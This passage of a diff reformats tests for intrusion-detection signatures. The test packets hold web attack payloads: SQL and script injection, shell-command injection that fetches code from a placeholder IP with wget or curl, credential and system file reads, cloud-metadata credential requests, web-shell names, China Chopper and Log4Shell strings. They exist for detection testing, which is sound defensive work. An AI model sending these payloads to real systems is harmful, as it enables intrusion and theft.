+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+(select+name+from+sysobjects+where+1) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+and+(select+sql+from+sqlite_master) HTTP/1.1\r\n" }
   expect sql_schema * 4, verdict drop
 }
 test "near miss: pages about them" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/schema?name=information HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/sqlite_master.html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/schema?name=information HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/sqlite_master.html HTTP/1.1\r\n" }
   expect none
 }
 
@@ -646,16 +690,16 @@ signature web_script_in_query {
   then     log, drop
 }
 test "four ways to write a script" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=<script>alert(1)</script> HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=%3CScript%3Ealert(1) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=%3Cimg+src=x+onerror%3Dalert(1) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=javascript:alert(1) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=javascript%3Aalert(1) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=<script>alert(1)</script> HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=%3CScript%3Ealert(1) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=%3Cimg+src=x+onerror%3Dalert(1) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=javascript:alert(1) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=javascript%3Aalert(1) HTTP/1.1\r\n" }
   expect web_script_in_query * 5, verdict drop
 }
 test "near miss: a word, and a page that is uploaded" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=script+type HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "POST /page HTTP/1.1\r\nContent-Type: text/html\r\n\r\n<p>hello</p>" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=script+type HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "POST /page HTTP/1.1\r\nContent-Type: text/html\r\n\r\n<p>hello</p>" }
   expect none
 }
 
@@ -686,25 +730,25 @@ signature web_command {
   then     log, drop
 }
 test "fourteen ways to fetch a bot" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;wget+http://198.51.100.9/x HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;wget%20http://198.51.100.9/x HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1%3Bwget%20http://198.51.100.9/x HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1%3Bwget+http://198.51.100.9/x HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=`wget+http://198.51.100.9/x` HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=`wget%20http://198.51.100.9/x` HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=$(wget+-O-+198.51.100.9) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=$(wget%20-O-%20198.51.100.9) HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;curl+http://198.51.100.9/x HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;curl%20http://198.51.100.9/x HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;wget${IFS}198.51.100.9 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;cd+/tmp;ls HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;cd%20/tmp;ls HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /ping?host=1;cd${IFS}/tmp&&ls HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;wget+http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;wget%20http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1%3Bwget%20http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1%3Bwget+http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=`wget+http://198.51.100.9/x` HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=`wget%20http://198.51.100.9/x` HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=$(wget+-O-+198.51.100.9) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=$(wget%20-O-%20198.51.100.9) HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;curl+http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;curl%20http://198.51.100.9/x HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;wget${IFS}198.51.100.9 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;cd+/tmp;ls HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;cd%20/tmp;ls HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /ping?host=1;cd${IFS}/tmp&&ls HTTP/1.1\r\n" }
   expect web_command * 14, verdict drop
 }
 test "near miss: questions about the tools" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /find?q=how+does+wget+http+work HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/curl+http.html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /find?q=how+does+wget+http+work HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/curl+http.html HTTP/1.1\r\n" }
   expect none
 }
 
@@ -725,16 +769,16 @@ signature web_header_injection {
   then     log, drop
 }
 test "five headers" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0d%0aSet-Cookie:a=b HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0D%0ALocation:%20//y HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0d%0alocation%3a%20//y HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0d%0aContent-Length:0 HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /go?to=x%0d%0aContent-Type:text/html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0d%0aSet-Cookie:a=b HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0D%0ALocation:%20//y HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0d%0alocation%3a%20//y HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0d%0aContent-Length:0 HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /go?to=x%0d%0aContent-Type:text/html HTTP/1.1\r\n" }
   expect web_header_injection * 5, verdict drop
 }
 test "near miss: two lines of text, and a page about cookies" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /note?text=one%0d%0atwo HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /help?topic=set-cookie HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /note?text=one%0d%0atwo HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /help?topic=set-cookie HTTP/1.1\r\n" }
   expect none
 }
 
@@ -757,16 +801,20 @@ signature php_wrapper {
   then     log, drop
 }
 test "five streams" {
-  packet { ipv4 tcp { dst_port 80 } payload "POST /show.php?page=php://input HTTP/1.1\r\n\r\n<?php" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=data://text/plain;base64,PD8= HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=expect://id HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=phar://x.jpg/y HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "POST /show.php?page=php://input HTTP/1.1\r\n\r\n<?php" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "GET /show.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1\r\n"
+  }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show.php?page=data://text/plain;base64,PD8= HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show.php?page=expect://id HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show.php?page=phar://x.jpg/y HTTP/1.1\r\n" }
   expect php_wrapper * 5, verdict drop
 }
 test "near miss: pages about them" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/php://input HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show.php?page=data HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/php://input HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show.php?page=data HTTP/1.1\r\n" }
   expect none
 }
 
@@ -789,18 +837,18 @@ signature web_system_file {
   then     log, drop
 }
 test "seven files" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=c:/Windows/win.ini HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=c:\\windows\\win.ini HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=c:/winnt/win.ini HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=c:/boot.ini HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=/proc/self/environ HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=/proc/self/cmdline HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /show?f=/etc/hosts HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=c:/Windows/win.ini HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=c:\\windows\\win.ini HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=c:/winnt/win.ini HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=c:/boot.ini HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=/proc/self/environ HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=/proc/self/cmdline HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?f=/etc/hosts HTTP/1.1\r\n" }
   expect web_system_file * 7, verdict drop
 }
 test "near miss: pages about them" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/win.ini.html HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/bootini HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/win.ini.html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/bootini HTTP/1.1\r\n" }
   expect none
 }
 
@@ -825,19 +873,19 @@ signature web_credentials {
   then     log, drop
 }
 test "eight of them" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /.ssh/id_rsa HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /.aws/credentials HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /.svn/entries HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /.htpasswd HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /wp-config.php.bak HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /wp-config.php~ HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /.docker/config.json HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /.vscode/sftp.json HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /.ssh/id_rsa HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /.aws/credentials HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /.svn/entries HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /.htpasswd HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /wp-config.php.bak HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /wp-config.php~ HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /.docker/config.json HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /.vscode/sftp.json HTTP/1.1\r\n" }
   expect web_credentials * 8, verdict drop
 }
 test "near miss: a page about keys, and the settings themselves, which run" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/ssh/id_rsa HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /wp-config.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/ssh/id_rsa HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /wp-config.php HTTP/1.1\r\n" }
   expect none
 }
 
@@ -856,13 +904,17 @@ signature cloud_metadata {
   then     log, drop
 }
 test "three names for it" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /fetch?url=http://metadata.google.internal/ HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /fetch?url=http://169.254.169.253/computeMetadata/v1/ HTTP/1.1\r\n" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n"
+  }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /fetch?url=http://metadata.google.internal/ HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /fetch?url=http://169.254.169.253/computeMetadata/v1/ HTTP/1.1\r\n" }
   expect cloud_metadata * 3, verdict drop
 }
 test "near miss: another server" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /fetch?url=http://192.0.2.5/latest/meta-data/ HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /fetch?url=http://192.0.2.5/latest/meta-data/ HTTP/1.1\r\n" }
   expect none
 }
 
@@ -890,22 +942,22 @@ signature web_shell {
   then     log, drop
 }
 test "eleven shells" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/c99.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/c99shell.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/r57.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/r57shell.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/b374k.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/wso.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/alfa.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/ALFAcgiapi/perl.alfa HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/indoxploit.php HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/cmdjsp.jsp HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /img/aspxspy.aspx HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/c99.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/c99shell.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/r57.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/r57shell.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/b374k.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/wso.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/alfa.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/ALFAcgiapi/perl.alfa HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/indoxploit.php HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/cmdjsp.jsp HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /img/aspxspy.aspx HTTP/1.1\r\n" }
   expect web_shell * 11, verdict drop
 }
 test "near miss: a language, and a car" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/c99.html HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /alfa.html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/c99.html HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /alfa.html HTTP/1.1\r\n" }
   expect none
 }
 
@@ -926,16 +978,32 @@ signature china_chopper {
   then     log, drop
 }
 test "PHP, ASP and ASPX" {
-  packet { ipv4 tcp { dst_port 80 } payload "POST /x.php HTTP/1.1\r\n\r\na=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQ" }
-  packet { ipv4 tcp { dst_port 80 } payload "POST /x.php HTTP/1.1\r\n\r\na=@eval%01(base64_decode($_POST[z0]));&z0=Q" }
-  packet { ipv4 tcp { dst_port 80 } payload "POST /x.php HTTP/1.1\r\n\r\na=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=Q" }
-  packet { ipv4 tcp { dst_port 80 } payload "POST /x.asp HTTP/1.1\r\n\r\na=Execute(\"Execute(\"\"On+Error+Resume+Next:Function+bd" }
-  packet { ipv4 tcp { dst_port 80 } payload "POST /x.aspx HTTP/1.1\r\n\r\na=Response.Write(\"->|\");var err" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "POST /x.php HTTP/1.1\r\n\r\na=@eval(base64_decode($_POST[z0]));&z0=QGluaV9zZXQ"
+  }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "POST /x.php HTTP/1.1\r\n\r\na=@eval%01(base64_decode($_POST[z0]));&z0=Q"
+  }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "POST /x.php HTTP/1.1\r\n\r\na=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=Q"
+  }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "POST /x.asp HTTP/1.1\r\n\r\na=Execute(\"Execute(\"\"On+Error+Resume+Next:Function+bd"
+  }
+  packet { ipv4  tcp { dst_port 80 }  payload "POST /x.aspx HTTP/1.1\r\n\r\na=Response.Write(\"->|\");var err" }
   expect china_chopper * 5, verdict drop
 }
 test "near miss: advice, and a page about it" {
-  packet { ipv4 tcp { dst_port 80 } payload "POST /blog HTTP/1.1\r\n\r\ntext=never use eval(base64_decode(" }
-  packet { ipv4 tcp { src_port 80  dst_port 50000 } payload "HTTP/1.1 200 OK\r\n\r\neval(base64_decode($_POST[z0]" }
+  packet { ipv4  tcp { dst_port 80 }  payload "POST /blog HTTP/1.1\r\n\r\ntext=never use eval(base64_decode(" }
+  packet { ipv4  tcp { src_port 80  dst_port 50000 }  payload "HTTP/1.1 200 OK\r\n\r\neval(base64_decode($_POST[z0]" }
   expect none
 }
 
@@ -952,11 +1020,11 @@ signature php_zerodium {
   then     log, drop
 }
 test "two letters t" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agentt: zerodiumsystem('id');\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agentt: zerodiumsystem('id');\r\n" }
   expect php_zerodium, verdict drop
 }
 test "near miss: one letter t" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: zerodium\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: zerodium\r\n" }
   expect none
 }
 
@@ -975,14 +1043,14 @@ signature web_trace {
   then     log, drop
 }
 test "two names for it" {
-  packet { ipv4 tcp { dst_port 80 } payload "TRACE / HTTP/1.1\r\nHost: x\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "TRACK / HTTP/1.1\r\nHost: x\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "TRACE / HTTP/1.1\r\nHost: x\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "TRACK / HTTP/1.1\r\nHost: x\r\n" }
   expect web_trace * 2, verdict drop
 }
 test "near miss: a path, and mail" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /TRACE / HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 25 } payload "TRACE / HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 25 } payload "TRACK / HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /TRACE / HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 25 }  payload "TRACE / HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 25 }  payload "TRACK / HTTP/1.1\r\n" }
   expect none
 }
 
@@ -993,7 +1061,8 @@ signature web_scanner {
   severity low
   class    recon
   ref      mitre "T1595.002"
-  when     request and payload contains "\r\nUser-Agent:" nocase
+  when     request
+       and payload contains "\r\nUser-Agent:" nocase
        and (payload contains "(nikto/" nocase in uri_first..header_last
          or payload contains "sqlmap/" nocase in uri_first..header_last
          or payload contains "nmap scripting engine" nocase in uri_first..header_last
@@ -1009,23 +1078,27 @@ signature web_scanner {
   then     log
 }
 test "twelve scanners" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7 (https://sqlmap.org)\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: masscan/1.3\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: gobuster/3.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: WPScan v3.8\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Nuclei - Open-source project\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: DirBuster-1.0\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Acunetix\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Fuzz Faster U Fool v2\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: OpenVAS\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7 (https://sqlmap.org)\r\n" }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n"
+  }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: masscan/1.3\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: gobuster/3.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: WPScan v3.8\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Nuclei - Open-source project\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: DirBuster-1.0\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Acunetix\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Fuzz Faster U Fool v2\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: OpenVAS\r\n" }
   expect web_scanner * 12, verdict accept
 }
 test "near miss: a browser, and a page about one" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /wpscan HTTP/1.1\r\nHost: x\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /wpscan HTTP/1.1\r\nHost: x\r\n" }
   expect none
 }
 
@@ -1048,16 +1121,16 @@ signature log4shell_hidden {
   then     log, drop
 }
 test "six ways to hide a letter" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${upper:j}ndi:ldap://x/a}\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}ndi:rmi://x/a}\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${env:A:-j}ndi:ldap://x/a}\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${sys:A:-j}ndi:ldap://x/a}\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nUser-Agent: ${${date:j}ndi:dns://x/a}\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${upper:j}ndi:ldap://x/a}\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}ndi:rmi://x/a}\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${env:A:-j}ndi:ldap://x/a}\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${sys:A:-j}ndi:ldap://x/a}\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${${date:j}ndi:dns://x/a}\r\n" }
   expect log4shell_hidden * 6, verdict drop
 }
